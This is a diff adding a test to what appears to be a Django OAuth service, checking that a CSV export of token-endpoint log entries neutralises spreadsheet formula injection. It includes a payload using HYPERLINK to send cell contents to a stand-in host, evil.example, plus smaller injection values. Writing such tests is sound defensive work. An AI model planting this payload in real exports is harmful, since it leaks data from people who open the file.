@@ -311,3 +311,17 @@ def test_the_sign_in_log_answers_the_registry_once_and_answers_are_merged(regist
         assert agent_selectors.last_used([registry_world.agent.pk]) == {registry_world.agent.pk: later}
     finally:
         agent_signals.last_used.disconnect(dispatch_uid="test.extra")
+
+
+def test_export_neutralises_values_an_unauthenticated_caller_chose(client, registry_world):
+    """Anyone may send a client id and a grant type to the token endpoint; the log keeps them, and the CSV export
+    must not hand them to a spreadsheet as formulas."""
+    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    for client_id, grant_type in ((hyperlink, "client_credentials"), ("@A1", "+1+1"), ("-2+3", "client_credentials")):
+        response = client.post("/oauth/token/", {"grant_type": grant_type, "client_id": client_id,
+                                                 "client_secret": "x"})
+        assert response.status_code in (400, 401)
+    client.force_login(registry_world.ga)
+    rows = list(csv.DictReader(io.StringIO(_export(client, "csv"))))
+    assert [(r["client_id"], r["grant_type"]) for r in rows] == [
+        ("'" + hyperlink, "client_credentials"), ("'@A1", "'+1+1"), ("'-2+3", "client_credentials")]
